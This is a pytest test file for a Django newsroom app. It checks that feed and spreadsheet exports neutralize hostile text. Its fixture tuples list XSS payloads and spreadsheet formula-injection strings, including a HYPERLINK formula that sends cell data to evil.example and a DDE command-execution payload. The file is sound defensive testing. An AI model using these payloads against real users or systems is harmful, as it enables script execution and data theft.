"""Hostile text stays inert in every reader: feed readers, spreadsheets.

Feeds are parsed the way readers parse them: feedparser with its sanitizer off, then
every value feedparser calls HTML is parsed with html5lib, which must find no element
at all in what was plain text (and, in bodies, no script, handler, style or
``javascript:`` URL), and the text it reads must be the original string. Values
feedparser calls plain text must be the original string as it is.

Spreadsheets: a cell a spreadsheet would run as a formula (OWASP, "CSV Injection")
starts with ``'`` in CSV unless raw cells are asked for, and is stored as quote-prefixed
text in XLSX.
"""

from __future__ import annotations

import csv
import html
import io
from urllib.parse import urlencode

import feedparser
import html5lib
import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from taggit.models import Tag

from releases.exports.atom import STATUS_SCHEME
from releases.exports.columns import HEADER
from releases.exports.stream import export_chunks
from releases.models import Correction, Organization, Release
from tests.factories import AuthorFactory, ContactFactory, OrganizationFactory, ReleaseFactory

pytestmark = pytest.mark.django_db

BASE_URL = "https://news.example.org"
SHORT_NAME_LENGTH = Organization._meta.get_field("short_name").max_length

# Markup a reader could run if it reached it as HTML, and its encoded and lookalike forms.
XSS = (
    '<a href="javascript:alert(1)">Click me</a>',
    "<script>alert('x')</script> Budget",
    "<img src=x onerror=alert(1)> Figures",
    "<svg onload=alert(1)><circle r=1></svg> Chart",
    '<div style="width:expression(alert(1))">Styled</div>',
    '<a href="jav&#x09;ascript:alert(1)">Tabbed scheme</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt; Entity-encoded",
    "&#60;img src=x onerror=alert(1)&#62; Numeric",
    "]]><script>alert(1)</script><![CDATA[ CDATA end",
    '"><b onmouseover=alert(1)>Quote break</b>',
    "<iframe src=javascript:alert(1)></iframe><!-- comment --> Frame",
    "＜script＞alert(1)＜/script＞ Full-width lookalike",
    'R&D <budget> & ‘quotes’ it\'s "fine"',
)

# Cells a spreadsheet would run as a formula (OWASP's list, with a leading space and the
# full-width forms Excel converts in East Asian input), and harmless look-alikes.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
INERT_CELLS = ("1 = 1", "Budget +2 %", "e-mail", "a@b.example", "'quoted", "— dash")


def release_of(text: str, *, slug_hint: str) -> Release:
    """A public release with ``text`` in every text field and every name around it."""
    organization = OrganizationFactory(
        name=text, short_name=text[:SHORT_NAME_LENGTH], slug=f"org-{slug_hint}"
    )
    author = AuthorFactory(name=text, slug=f"author-{slug_hint}")
    contact = ContactFactory(name=text, role=text, organization=organization)
    tag, _ = Tag.objects.get_or_create(name=text, defaults={"slug": f"tag-{slug_hint}"})
    release = ReleaseFactory(
        headline=text,
        subheadline=text,
        dateline=text,
        summary=text,
        body=f"{text}<p>{text}</p>",
        featured_image_alt=text,
        featured_image_caption=text,
        featured_image_credit=text,
        author=author,
        organizations=[organization],
        contacts=[contact],
        tags=[tag],
    )
    Correction.objects.create(release=release, note=text)
    return release


# -- reading values as a feed reader does ------------------------------------------------


def parse_feed(content: bytes):
    feed = feedparser.parse(content, sanitize_html=False)
    assert not feed.bozo, feed.bozo_exception
    return feed


def html_fragment(value: str):
    return html5lib.parseFragment(value, treebuilder="etree", namespaceHTMLElements=False)


def visible_text(value: str) -> str:
    return "".join(html_fragment(value).itertext())


def assert_reads_as(value: str, content_type: str, original: str) -> None:
    """``value``, read as ``content_type``, shows ``original`` and runs nothing."""
    if content_type == "text/html":
        fragment = html_fragment(value)
        assert [element.tag for element in fragment.iter()][1:] == [], value
        assert visible_text(value) == original
    else:
        assert content_type == "text/plain", content_type
        assert value == original


def assert_no_live_markup(value: str) -> None:
    """An HTML body: elements allowed, nothing that runs or styles."""
    for element in html_fragment(value).iter():
        assert element.tag not in {"script", "iframe", "svg", "object", "embed", "style"}
        for name, attribute in element.attrib.items():
            assert not name.lower().startswith("on"), (name, value)
            assert name.lower() != "style", value
            assert "javascript:" not in "".join(attribute.lower().split()), value


def assert_feed_inert(feed, original: str, *, html_names: bool) -> None:
    """Every text value of ``feed`` carrying ``original`` shows it and runs nothing.

    ``html_names``: whether authors and categories are HTML (RSS) or text (Atom).
    """
    name_type = "text/html" if html_names else "text/plain"
    for key in ("title_detail", "subtitle_detail"):
        if key in feed.feed:
            assert_no_live_markup(feed.feed[key].value)
    for entry in feed.entries:
        assert_reads_as(entry.title_detail.value, entry.title_detail.type, original)
        assert_reads_as(entry.summary_detail.value, entry.summary_detail.type, original)
        assert_reads_as(entry.author_detail.name, name_type, original)
        tags = [tag.term for tag in entry.tags if tag.scheme != STATUS_SCHEME]
        assert len(tags) == 1
        assert_reads_as(tags[0], name_type, original)
        for content in entry.content:
            assert content.type == "text/html"
            assert_no_live_markup(content.value)


FEEDS = [("releases:feed_rss", True), ("releases:feed_atom", False)]


# -- feeds -------------------------------------------------------------------------------


@pytest.mark.parametrize(("url_name", "html_names"), FEEDS)
@pytest.mark.parametrize("text", XSS)
def test_hostile_text_in_every_field_reaches_feed_readers_as_text(
    client, url_name, html_names, text
):
    release_of(text, slug_hint="x")

    response = client.get(reverse(url_name))

    assert response.status_code == 200
    feed = parse_feed(response.content)
    assert len(feed.entries) == 1
    assert_feed_inert(feed, text, html_names=html_names)


@pytest.mark.parametrize(("url_name", "html_names"), FEEDS)
@pytest.mark.parametrize("text", XSS)
def test_hostile_names_in_a_filtered_feed_title_are_text(client, url_name, html_names, text):
    release_of(text, slug_hint="x")
    words = text[:40].strip()
    query = urlencode({"tag": "tag-x", "organization": "org-x", "author": "author-x", "q": words})

    response = client.get(f"{reverse(url_name)}?{query}")

    assert response.status_code == 200
    feed = parse_feed(response.content)
    title = feed.feed.title_detail
    short_name = text[:SHORT_NAME_LENGTH]  # what feeds name an organization by
    phrase = f"eleases tagged {text} from {short_name} by {text} matching “{words}”"
    assert_reads_as(title.value, title.type, f"R{phrase} · Newsroom")
    subtitle = feed.feed.subtitle_detail
    assert_reads_as(
        subtitle.value, subtitle.type, f"The 50 newest r{phrase} published on Newsroom."
    )


def export(format_name: str, **options) -> str | bytes:
    chunks = list(
        export_chunks(Release.objects.order_by("pk"), format_name, base_url=BASE_URL, **options)
    )
    return b"".join(chunks) if format_name == "xlsx" else "".join(chunks)


@pytest.mark.parametrize("text", XSS)
def test_hostile_text_in_the_atom_export_reaches_feed_readers_as_text(text):
    release_of(text, slug_hint="x")

    feed = parse_feed(export("atom").encode())

    assert len(feed.entries) == 1
    assert_feed_inert(feed, text, html_names=False)


# -- spreadsheets ------------------------------------------------------------------------

# The columns that carry the text of release_of(); the others are ids, URLs, times and
# fixed words.
TEXT_COLUMNS = (
    "headline",
    "subheadline",
    "dateline",
    "summary",
    "body",
    "featured_image_alt",
    "featured_image_caption",
    "featured_image_credit",
    "author",
    "organizations",
    "contacts",
    "tags",
)


def spreadsheet_would_run(cell: str) -> bool:
    """The test's own reading of OWASP's rule (and the documented additions)."""
    return cell[:1] in ("\t", "\r", "\0") or cell.lstrip()[:1] in tuple("=+-@＝＋－＠")


def csv_rows(**options) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export("csv", **options), newline="")))


@pytest.fixture
def formula_releases() -> dict[str, Release]:
    return {
        text: release_of(text, slug_hint=str(i)) for i, text in enumerate(FORMULAS + INERT_CELLS)
    }


def test_the_corpus_reaches_every_text_column_of_the_raw_csv(formula_releases):
    rows = {int(row["id"]): row for row in csv_rows(raw_cells=True)}

    for text, release in formula_releases.items():
        row = rows[release.pk]
        for column in TEXT_COLUMNS:
            value, expected = row[column], text
            if column == "body":  # sanitized HTML: nh3 escapes it and strips whitespace
                value, expected = html.unescape(value), text.strip()
            assert value.startswith(expected), (column, row[column])


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(formula_releases):
    raw_rows = {row["id"]: row for row in csv_rows(raw_cells=True)}
    safe_rows = {row["id"]: row for row in csv_rows()}

    assert raw_rows.keys() == safe_rows.keys()
    neutralized = 0
    for key, raw in raw_rows.items():
        assert tuple(raw) == HEADER
        for column in HEADER:
            cell = safe_rows[key][column]
            assert not spreadsheet_would_run(cell), (column, cell)
            if spreadsheet_would_run(raw[column]):
                assert cell == f"'{raw[column]}"
                neutralized += 1
            else:
                assert cell == raw[column]
    assert neutralized >= len(FORMULAS) * len(TEXT_COLUMNS)


@pytest.mark.parametrize("text", INERT_CELLS)
def test_csv_cells_that_only_contain_formula_signs_are_left_alone(formula_releases, text):
    row = next(row for row in csv_rows() if row["id"] == str(formula_releases[text].pk))

    for column in TEXT_COLUMNS:
        assert html.unescape(row[column]).startswith(text.strip()), (column, row[column])


def test_xlsx_keeps_every_value_exact_as_text_and_quote_prefixes_formulas(formula_releases):
    raw_rows = {row["id"]: row for row in csv_rows(raw_cells=True)}

    workbook = openpyxl.load_workbook(io.BytesIO(export("xlsx")))

    sheet = workbook["Releases"]
    header = [cell.value for cell in sheet[1]]
    prefixed = 0
    for cells in sheet.iter_rows(min_row=2):
        raw = raw_rows[str(cells[0].value)]
        for name, cell in zip(header, cells, strict=True):
            if not isinstance(cell.value, str):
                continue
            assert cell.data_type == "s", (name, cell.value)  # never a formula
            # XML reads a carriage return as a line feed (XML 1.0, 2.11).
            assert cell.value == raw[name].replace("\r\n", "\n").replace("\r", "\n")
            assert cell.quotePrefix is spreadsheet_would_run(cell.value), (name, cell.value)
            prefixed += cell.quotePrefix
    assert prefixed >= len(FORMULAS) * len(TEXT_COLUMNS)


def test_export_command_neutralizes_csv_by_default_and_writes_raw_cells_on_request():
    release_of("=1+1", slug_hint="x")

    def headlines(*args) -> list[str]:
        out = io.StringIO()
        call_command("export_releases", "--format", "csv", *args, stdout=out)
        return [row["headline"] for row in csv.DictReader(io.StringIO(out.getvalue()))]

    assert headlines() == ["'=1+1"]
    assert headlines("--raw-cells") == ["=1+1"]


@pytest.mark.parametrize("format_name", ["xlsx", "json", "atom"])
def test_raw_cells_are_for_csv_only(format_name, tmp_path):
    with pytest.raises(CommandError, match="--raw-cells is for CSV only"):
        call_command(
            "export_releases",
            "--format",
            format_name,
            "--raw-cells",
            "--output",
            str(tmp_path / "out"),
        )


def test_admin_export_neutralizes_csv_by_default_and_offers_raw_cells(client):
    from tests.factories import writer

    release_of("@SUM(A1)", slug_hint="x")
    client.force_login(writer())
    url = reverse("admin:releases_release_export")

    def headlines(**params) -> list[str]:
        response = client.get(url, {"format": "csv", **params})
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode()
        return [row["headline"] for row in csv.DictReader(io.StringIO(text))]

    assert headlines() == ["'@SUM(A1)"]
    assert headlines(raw_cells="on") == ["@SUM(A1)"]
    page = client.get(url).content.decode()
    assert 'name="raw_cells"' in page
    refused = client.get(url, {"format": "xlsx", "raw_cells": "on"})
    assert refused.status_code == 400
    assert "Only for CSV" in refused.content.decode()
